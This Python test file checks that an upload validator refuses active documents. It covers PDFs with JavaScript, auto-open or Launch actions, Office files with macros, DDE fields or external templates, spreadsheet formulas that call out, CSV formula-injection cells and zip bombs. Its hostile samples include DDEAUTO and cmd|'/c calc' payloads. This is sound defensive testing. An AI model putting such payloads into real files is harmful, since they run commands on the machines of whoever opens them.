"""Files that act when they are opened are refused; what office programs and scanners make is taken; all has bounds."""

import contextlib
import io
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from models.attachments import FileKind
from tests.web.test_attachments import _MAIN, DOCX, ODT, PDF, office, packed
from web.request.file_kinds import kind_of
from web.request.unwanted import (
    DAMAGED,
    EMBEDDED,
    FROM_ELSEWHERE,
    LOCKED,
    MACROS,
    ON_OPENING,
    REACHES_OUT,
    TOO_LARGE,
    UnwantedFile,
)

TEXT = "application/vnd.oasis.opendocument.text"
FILES = Path(__file__).parent / "files"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def kind(content: bytes, suffix: str) -> FileKind | None:
    return kind_of(io.BytesIO(content), suffix)


def why(content: bytes, suffix: str) -> str:
    with pytest.raises(UnwantedFile) as refused:
        kind(content, suffix)
    return refused.value.sentence


def related(*relations: str, main: str = "word/document.xml") -> bytes:
    written = "".join(f"<Relationship {one}/>" for one in relations)
    return office(main, _MAIN, **{"word/_rels/document.xml.rels": f"<Relationships>{written}</Relationships>"})


def relation(kind: str, target: str, mode: str = "") -> str:
    return f'Id="r" Type="{_RELATIONS}/{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "")


def repacked(whole: bytes, how: int) -> bytes:
    """The same document, its parts packed in another way."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as read, zipfile.ZipFile(made, "w", how) as written:
        for name in read.namelist():
            written.writestr(name, read.read(name))
    return made.getvalue()


def typed(name: str, content_type: str, by: str = "Override PartName") -> bytes:
    """A document with one more part of a type that is named by it or by its ending."""
    named = f"/{name}" if by.startswith("O") else name.rpartition(".")[2]
    types = (
        f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/><{by}="{named}" ContentType="{content_type}"/>'
    )
    parts: dict[str, str | bytes] = {"word/document.xml": "<x/>", name: b"x"}
    return packed(**{"[Content_Types].xml": f"<Types>{types}</Types>", **parts})


def word(body: str) -> bytes:
    """A document of Word with this text."""
    types = f'<Types><Override PartName="/a.xml" ContentType="{_MAIN}"/></Types>'
    return packed(**{"[Content_Types].xml": types, "a.xml": f"<w>{body}</w>"})


def field(*code: str) -> str:
    """A field of Word whose code stands in these pieces; another field among them is a piece."""
    pieces = "".join(one if one.startswith("<") else f"<r><instrText>{one}</instrText></r>" for one in code)
    char = '<r><fldChar fldCharType="{}"/></r>'
    return f"{char.format('begin')}{pieces}{char.format('separate')}<t>x</t>{char.format('end')}"


def sheet(cell: str, name: str = "worksheet") -> bytes:
    """A spreadsheet with a part of this type."""
    main = _MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
    kind = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{name}+xml"
    named = f'<Override PartName="/b.xml" ContentType="{main}"/><Override PartName="/s.xml" ContentType="{kind}"/>'
    return packed(**{"[Content_Types].xml": f"<Types>{named}</Types>", "b.xml": "<x/>", "s.xml": f"<s>{cell}</s>"})


def calc(attribute: str) -> bytes:
    """A spreadsheet of LibreOffice with a cell that has this attribute."""
    return packed(mimetype=TEXT.replace("text", "spreadsheet"), content_dot_xml=f"<a><table-cell {attribute}/></a>")


def object_stream(objects: bytes, *, about: bytes = b"", packed_as: bytes = b"/FlateDecode", first: int = 4) -> bytes:
    """A PDF file with one object, number 9, in an object stream."""
    body = zlib.compress(b"9 0 ".ljust(first) + objects)
    entries = b"/Type/ObjStm/N 1/First %d/Filter%s%s/Length %d" % (first, packed_as, about, len(body))
    return PDF + b"<<" + entries + b">>stream\r\n" + body + b"\nendstream endobj\n"


# taken --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "suffix", "words"),
    [
        ((FILES / "office-online.docx").read_bytes(), ".docx", "DOCX"),
        ((FILES / "pdf-after-bom.pdf").read_bytes(), ".pdf", "PDF"),
        (b"\n\r\n \n" + PDF, ".pdf", "PDF"),
        (b"\x1b%-12345X@PJL JOB\r\n" + PDF, ".pdf", "PDF"),
        (b" " * 1019 + PDF, ".pdf", "PDF"),
        (b"A text on the header %PDF-1.7 of files.\n", ".txt", "TXT"),
        (PDF + b"<</OpenAction[3 0 R/XYZ null null 0]>>", ".pdf", "PDF"),  # LibreOffice
        (PDF + b"<</OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj", ".pdf", "PDF"),  # LaTeX
        (object_stream(b"<</OpenAction 9 0 R /S/GoTo/D[3 0 R/Fit]>>"), ".pdf", "PDF"),
        (PDF + b"<</A<</S/URI/URI(https://example.org/)>>>>", ".pdf", "PDF"),
        (PDF + b"<</Filter/DCTDecode/Length 9>>stream\n\xff\xd8 /JS( /AA\nendstream", ".pdf", "PDF"),
        (related(relation("hyperlink", "https://example.org/", "External")), ".docx", "DOCX"),
        (related(relation("image", "media/image1.png")), ".docx", "DOCX"),
        (office("custom/part.xml", _MAIN), ".docx", "DOCX"),
        (typed("word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml"), ".docx", "DOCX"),
    ],
)
def test_what_programs_and_scanners_make_is_taken(content: bytes, suffix: str, words: str) -> None:
    found = kind(content, suffix)
    assert found is not None
    assert found.words == words


TABLE = (
    "No;What;Change\n1;'- none';-5\n2;+62 (812) 555-01;- boats (three), + crew\n3;=====;@ sea\n'=A1;'-x(1)\n4;-;-1.5e\n"
)


@pytest.mark.parametrize(
    ("content", "suffix"),
    [
        (word(field(" PAGE ")), ".docx"),
        (word(field(" TOC \\o ", field("PAGEREF _x"), field(' HYPERLINK "https://example.org/" '))), ".docx"),
        (word(field("IF ", field("PAGE"), ' = 1 "LINK" "INCLUDETEXT"')), ".docx"),
        (word("<t>DDEAUTO and INCLUDETEXT are words</t>" + '<fldSimple instr=" DATE "/>'), ".docx"),
        (
            sheet("<c><f>SUM(A1:B2)/IMAGEX(3)</f></c><c><f>HYPERLINK(&quot;https://example.org/&quot;,A1)</f></c>"),
            ".xlsx",
        ),
        (sheet("<c><v>=WEBSERVICE(1)</v></c><f>SUM(Table1[[#All],[a.b]])+Sheet2!A1+IF(1|2,3)</f>"), ".xlsx"),
        (calc('formula="of:=SUM([.A1:.B2])"'), ".ods"),
        (TABLE.encode(), ".csv"),
        (TABLE.replace("\n", "\r\n").encode("utf-16"), ".csv"),
        (b"=HYPERLINK(1)", ".txt"),
    ],
)
def test_formulas_and_fields_that_reach_nothing_are_taken(content: bytes, suffix: str) -> None:
    assert kind(content, suffix) is not None


def test_an_open_document_as_programs_write_it_is_taken() -> None:
    """As LibreOffice writes one: a picture inside, a link to a page, fonts, no macros."""
    content = (
        '<o:document-content xmlns:o="o" xmlns:d="d" xmlns:x="x" xmlns:t="t"><d:image x:href="Pictures/1.png"/>'
        '<t:a x:href="https://example.org/">here</t:a><d:object x:href="./Object 1"/>'
        '<o:scripts/><m:template xmlns:m="m" x:href="file:///usr/share/letter.ott"/></o:document-content>'
    )
    manifest = '<!DOCTYPE m:manifest SYSTEM "Manifest.dtd">'
    manifest += '<m:manifest xmlns:m="m"><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    parts: dict[str, str | bytes] = {
        "META-INF/manifest.xml": manifest,
        "Pictures/1.png": b"x",
        "Configurations2/a.xml": b"",
    }
    found = kind(packed(mimetype=TEXT, content_dot_xml=content, **parts), ".odt")
    assert found is not None
    assert found.words == "ODT"


@pytest.mark.parametrize("before", [b"MZ\x90", b"<html><script>", b"x" * 1025, b"#!/bin/sh\n"])
def test_a_pdf_header_does_not_make_a_pdf_of_anything(before: bytes) -> None:
    assert kind(before + PDF, ".pdf") is None


# refused ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("inside", "sentence"),
    [
        (b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", MACROS),
        (b"<</S/J#61vaScript/J#53 4 0 R>>", MACROS),
        (b"<</Names<</JavaScript 4 0 R>>>>", MACROS),
        (b"<</S %\n /JavaScript>>", MACROS),
        (b"<</S/Rendition/JS<6170>>>", MACROS),
        (b"<</AA<</O 4 0 R>>>>", MACROS),
        (b"<</AA 4 0 R>>", MACROS),
        (b"<</A#41 4 0 R>>", MACROS),
        (b"<</AcroForm<</XFA[(x) 4 0 R]>>>>", MACROS),
        (b"<</S/Launch/F(cmd.exe)>>", ON_OPENING),
        (b"<</S/SubmitForm>>", ON_OPENING),
        (b"<</OpenAction<</S/URI/URI(http://e.example/)>>>>", ON_OPENING),
        (b"<</OpenAction<</S/GoTo/D(>>)/Next<</S/URI>>>>>>", ON_OPENING),
        (b"<</OpenAction 4 0 R>>endobj 4 0 obj<</S/URI/URI(x)>>endobj", ON_OPENING),
        (b"<</OpenAction 4 0 R>>", ON_OPENING),
        (b"4 0 obj[3 0 R/Fit]endobj<</Open#41ction 4 0 R>>4 0 obj<</S/URI>>endobj", ON_OPENING),
        (b"<</Type/EmbeddedFile>>stream\nMZ\nendstream", EMBEDDED),
        (b"<</EmbeddedFiles 4 0 R>>", EMBEDDED),
        (b"<</S/RichMedia>>", EMBEDDED),
        (b"trailer<</Encrypt 4 0 R>>", LOCKED),
    ],
)
def test_a_pdf_that_acts_is_refused_wherever_it_says_so(inside: bytes, sentence: str) -> None:
    assert why(PDF + inside, ".pdf") == sentence
    at_a_border = PDF + b" " * (1024 * 1024 - len(PDF) - 5) + inside
    assert why(at_a_border, ".pdf") == sentence
    if b"stream" not in inside and b"4 0 obj" not in inside:
        assert why(object_stream(inside), ".pdf") == sentence
        hidden = object_stream(inside).replace(b"/Type/ObjStm", b"/Type/Obj#53tm").replace(b"/First", b"/F#69rst")
        assert why(hidden, ".pdf") == sentence


@pytest.mark.parametrize(
    "about",
    [
        b"/X(obj<<)",
        b"/X(endobj 3 0 obj<<)",
        b"/X(a(b(\\)endobj 1 0 obj<</A 1)))",
        b"/X(endobj(3 0 obj<<))",
        b"/X(endobj % ) \n /Y(\n)",
        b"%endobj 3 0 obj <<\n",
        b"/endobj<</A 1>>",
        b"/obj<</A 1>>",
        b"/X(%)",
    ],
)
def test_an_object_stream_is_not_hidden_by_words_in_strings_comments_and_names(about: bytes) -> None:
    acts = b"<</S/JavaScript/JS(app.alert(1))>>"
    earlier = b"<</Type/Outlines/First 3 0 R>>endobj 8 0 obj\n"
    for packed_as, sentence in ((b"/FlateDecode", MACROS), (b"[/ASCIIHexDecode/FlateDecode]", DAMAGED)):
        whole = object_stream(acts, about=about, packed_as=packed_as)
        assert why(whole.replace(PDF, PDF + earlier), ".pdf") == sentence
        late = object_stream(acts, packed_as=packed_as).replace(b"/Type", about + b"/Type")
        assert why(late.replace(PDF, PDF + earlier), ".pdf") == sentence
    beside = PDF + earlier + b"<</Filter/DCTDecode/X(a picture)>>stream\n\xff\xd8\nendstream"
    assert kind(beside, ".pdf") is not None


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (object_stream(b"<<>>", packed_as=b"[/ASCIIHexDecode/FlateDecode]"), DAMAGED),
        (object_stream(b"<<>>", packed_as=b" 7 0 R"), DAMAGED),
        (object_stream(b"<<>>", about=b"/DecodeParms<</Predictor 12>>"), DAMAGED),
        (object_stream(b"<<>>").replace(b"stream\r\nx", b"stream\r\n?"), DAMAGED),
        (object_stream(b"<<>>" + b"0" * 30_000_000), TOO_LARGE),
        (PDF + b"#41" * 400_000, TOO_LARGE),
        (PDF + b"stream\n obj" * 20_001, TOO_LARGE),
        (PDF.replace(b"obj", b"") + b" " * 20_000 + b">>stream\n", DAMAGED),
    ],
)
def test_a_pdf_that_hides_its_objects_or_grows_is_refused(content: bytes, sentence: str) -> None:
    assert len(content) < 2_000_000
    assert why(content, ".pdf") == sentence


@pytest.mark.parametrize(
    ("content", "suffix", "sentence"),
    [
        (related(relation("attachedTemplate", "http://e.example/x.dotm", "External")), ".docx", FROM_ELSEWHERE),
        (related(relation("oleObject", "file:///x", "External")), ".docx", FROM_ELSEWHERE),
        (related(relation("frame", "http://e.example/", "external")), ".docx", FROM_ELSEWHERE),
        (related(relation("image", r"\\e.example\x")), ".docx", FROM_ELSEWHERE),
        (related(relation("hyperlink", "#a"), relation("aFChunk", "x.html")), ".docx", EMBEDDED),
        (
            related('Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a"'),
            ".docx",
            MACROS,
        ),
        (office("word/document.xml", _MAIN, **{"word/vbaProject.bin": b"x"}), ".docx", MACROS),
        (office("word/document.xml", _MAIN + "macroEnabled"), ".docx", MACROS),
        (typed("word/plain.xml", "application/vnd.ms-office.vbaProject"), ".docx", MACROS),
        (typed("word/plain.dat", "application/vnd.ms-office.vbaProject", "Default Extension"), ".docx", MACROS),
        (typed("xl/sheet.xml", "application/vnd.ms-excel.macrosheet+xml"), ".xlsx", MACROS),
        (typed("word/x.xml", "application/vnd.ms-office.activeX+xml"), ".docx", MACROS),
        (typed("word/x.bin", "application/vnd.openxmlformats-officedocument.oleObject"), ".docx", EMBEDDED),
        (packed(mimetype=TEXT, Basic__Standard__Module1_dot_xml="x"), ".odt", MACROS),
        (packed(mimetype=TEXT, Scripts__python__a_dot_py="x"), ".odt", MACROS),
        (packed(mimetype=TEXT.replace("text", "spreadsheet"), scripts__javascript__a_dot_js="x"), ".ods", MACROS),
        (packed(mimetype=TEXT, Object__Basic__a_dot_xml="x"), ".odt", MACROS),
        (
            packed(
                mimetype=TEXT,
                **{"META-INF/manifest.xml": '<m xmlns:x="y"><x:file-entry x:full-path="Basic/Standard/a.xml"/></m>'},
            ),
            ".odt",
            MACROS,
        ),
        (packed(mimetype=TEXT, **{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), ".odt", LOCKED),
        (
            packed(
                mimetype=TEXT,
                content_dot_xml="<a>"
                + " " * 1_048_570
                + '<s:event-listener xmlns:s="t" href="vnd.sun.star.script:../x.py$y"/></a>',
            ),
            ".odt",
            MACROS,
        ),
        (packed(mimetype=TEXT, content_dot_xml="<event-listener/>".encode("utf-16")), ".odt", MACROS),
        (packed(mimetype=TEXT, content_dot_xml='<image href="http&#58;//e.example/"/>'), ".odt", FROM_ELSEWHERE),
        (packed(mimetype=TEXT, meta_dot_xml='<auto-reload href="http://e.example/"/>'), ".odt", FROM_ELSEWHERE),
        (packed(mimetype=TEXT, meta_dot_xml='<template href="https://e.example/t.ott"/>'), ".odt", FROM_ELSEWHERE),
        (packed(mimetype=TEXT, styles_dot_xml='<font-face-uri href="//e.example/f"/>'), ".odt", FROM_ELSEWHERE),
        (
            packed(mimetype=TEXT, content_dot_xml='<cell-range-source href="http://e.example/"/>'),
            ".odt",
            FROM_ELSEWHERE,
        ),
        (packed(mimetype=TEXT, content_dot_xml='<object-ole href="./Object 1"/>'), ".odt", EMBEDDED),
        (packed(mimetype=TEXT, content_dot_xml="<script>1</script>"), ".odt", MACROS),
        (packed(mimetype=TEXT, content_dot_xml='<a href="vnd.sun.star.script:x"/>'), ".odt", MACROS),
        (packed(mimetype=TEXT, content_dot_xml='<a href=" macro:///x"/>'), ".odt", MACROS),
        (related(relation("hyperlink", "javascript:x", "External")), ".docx", MACROS),
        (
            packed(mimetype=TEXT, content_dot_xml='<image xmlns:z="z" href="http://e.example/" z:href="a.png"/>'),
            ".odt",
            DAMAGED,
        ),
        (related(relation("oleObject", "embeddings/a.bin")), ".docx", EMBEDDED),
        (related(relation("control", "activeX/a.xml")), ".docx", EMBEDDED),
        (
            related('<Relationship xmlns:z="z" Type="a" z:Type="b/hyperlink" Target="http://e.example/"/>'),
            ".docx",
            DAMAGED,
        ),
        (repacked(DOCX, zipfile.ZIP_LZMA), ".docx", DAMAGED),
        (repacked(DOCX, zipfile.ZIP_BZIP2), ".docx", DAMAGED),
        (
            packed(mimetype=TEXT, Object__content_dot_xml='<section-source href="//e.example/x"/>'),
            ".odt",
            FROM_ELSEWHERE,
        ),
        (packed(mimetype=TEXT, content_dot_xml="<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"), ".odt", DAMAGED),
        (packed(mimetype=TEXT, content_dot_xml="<a><b></a>"), ".odt", DAMAGED),
        (typed("xl/x.xml", "application/x-spreadsheetml.externalLink+xml"), ".xlsx", FROM_ELSEWHERE),
        (typed("xl/x.xml", "application/x-spreadsheetml.connections+xml"), ".xlsx", FROM_ELSEWHERE),
        (packed(mimetype=TEXT, content_dot_xml=b" " * 70_000_000), ".odt", TOO_LARGE),
        (DOCX[:-30], ".docx", DAMAGED),
        (b"PK\x03\x04 not a package", ".docx", DAMAGED),
        (office("word/document.xml", _MAIN).replace(b"PK\x01\x02", b"PK\x01\x03"), ".docx", DAMAGED),
        (packed(**{"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>"}), ".docx", DAMAGED),
        (packed(mimetype="x" * 2000), ".odt", TOO_LARGE),
        (packed(**{"[Content_Types].xml": "<Types/>", "[content_types].XML": "<Types/>"}), ".docx", DAMAGED),
        (packed(**{f"[Content_Types].xml{number}": "" for number in range(5001)}), ".docx", DAMAGED),
    ],
)
def test_a_document_that_acts_fetches_or_cannot_be_looked_through_is_refused(
    content: bytes, suffix: str, sentence: str
) -> None:
    assert why(content, suffix) == sentence


@pytest.mark.parametrize(
    "body",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
        field(" dde Excel x"),
        field("D", "DE", "AUTO x"),
        field("QUOTE x", field("LINK Excel.Sheet.8 a")),
        field(field("QUOTE 68 68 69"), " c:\\\\x"),
        field(" ", field("SET c x"), " x"),
        field("IF 1 = 1 ", field('INCLUDEPICTURE "http://e.example/x.png"'), " x"),
        field(r"INCLUDETEXT \\\\e.example\\x"),
        field("DATABASE x"),
        '<fldSimple instr="  DDEAUTO x y"/>',
        "<r><instrText>DDE x</instrText></r>",
        "<r><delInstrText>DDE x</delInstrText></r>",
        '<r><fldChar fldCharType="begin"/></r><r><instrText>DDE x</instrText></r>',
    ],
)
def test_a_field_of_word_that_fetches_or_starts_something_is_refused(body: str) -> None:
    assert why(word(body), ".docx") == FROM_ELSEWHERE


_REACHING = [
    "WEBSERVICE(&quot;http://e.example/&quot;&amp;A1)",
    "1+_xlfn.WEBSERVICE(A1)",
    "HYPERLINK(&quot;http://e.example/?&quot;&amp;A1,&quot;here&quot;)",
    "HYPERLINK(A1)",
    "cmd|'/c calc'!A0",
    "RTD(&quot;x&quot;,,1)",
    "_xlfn.IMAGE(&quot;http://e.example/&quot;)",
    "'\\\\e.example\\[x.xlsx]S'!A1",
    "&#87;EBSERVICE (A1)",
]


@pytest.mark.parametrize("formula", _REACHING)
def test_a_formula_that_reaches_out_is_refused_in_every_kind_of_spreadsheet(formula: str) -> None:
    assert why(sheet(f"<c><f>{formula}</f></c>"), ".xlsx") == REACHES_OUT
    assert why(sheet(f"<formula1>{formula}</formula1>"), ".xlsx") == REACHES_OUT
    assert why(sheet(f"<definedName>{formula}</definedName>", "sheet.main"), ".xlsx") == REACHES_OUT
    assert why(calc(f'formula="of:={formula}"'), ".ods") == REACHES_OUT


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", '"=1+1"', " =cmd|' /C calc'!A0", "\t=A1", "\r=A1", '"\n=A1"', "\uff1dA1", "+HYPERLINK(A1)"),
        *("-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", '"+1&""x""&WEBSERVICE(A1)"', "-SUM(A1)", "\u00a0=A1"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_table_with_a_cell_that_is_reckoned_out_is_refused(cell: str, encoding: str) -> None:
    for before in ("", "a,b\n1,", "a;b\n1;", "a\tb\n1\t"):
        assert why(f"{before}{cell}\n".encode(encoding), ".csv") == REACHES_OUT


@pytest.mark.parametrize(
    "piece", ["-", ",-a", "|", ",", " ", "a(", '"', "\t", "=-", "HYPERLINK(", "[a.xlsx]", "http://"]
)
def test_the_work_for_a_table_or_a_formula_grows_with_its_length_alone(piece: str) -> None:
    """As in tests/security/test_costs.py: where the work grows by the square, the suite's limit ends it."""
    for end in ("", ",-x"):
        with contextlib.suppress(UnwantedFile):
            kind((piece * (300_000 // len(piece)) + end).encode(), ".csv")
    with contextlib.suppress(UnwantedFile):
        kind(sheet(f"<f>{piece.replace('&', '') * (30_000 // len(piece))}</f>"), ".xlsx")


@pytest.mark.parametrize("whole", [DOCX, ODT], ids=["docx", "odt"])
def test_a_corrupt_part_is_refused_and_no_error(whole: bytes) -> None:
    """Every byte of a document is spoiled, one at a time; whatever comes of it is an answer."""
    for at in range(len(whole)):
        spoiled = whole[:at] + bytes((whole[at] ^ 0xFF,)) + whole[at + 1 :]
        with contextlib.suppress(UnwantedFile):
            kind(spoiled, ".docx")


def test_an_archive_that_says_it_is_vast_is_not_opened() -> None:
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as package:
        for number in range(25_000):
            package.writestr(f"word/{number:0100d}", "")
    assert why(many.getvalue(), ".docx") == DAMAGED
    grown = office("word/document.xml", "x" * 50_000_000 + _MAIN)  # 50 kB that become 50 MB
    assert len(grown) < 100_000
    assert why(grown, ".docx") == TOO_LARGE


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from([b"", PDF, object_stream(b"<</OpenAction 9 0 R>>"), DOCX, ODT]),
    st.lists(
        st.sampled_from([b"stream\n", b"<</First", b"9 0 obj", b"/OpenAction ", b"PK\x05\x06", b"#", b">>"])
        | st.binary()
    ),
    st.sampled_from([".pdf", ".docx", ".txt"]),
)
def test_no_file_is_an_error(begin: bytes, rest: list[bytes], suffix: str) -> None:
    with contextlib.suppress(UnwantedFile):
        kind(begin + b"".join(rest), suffix)
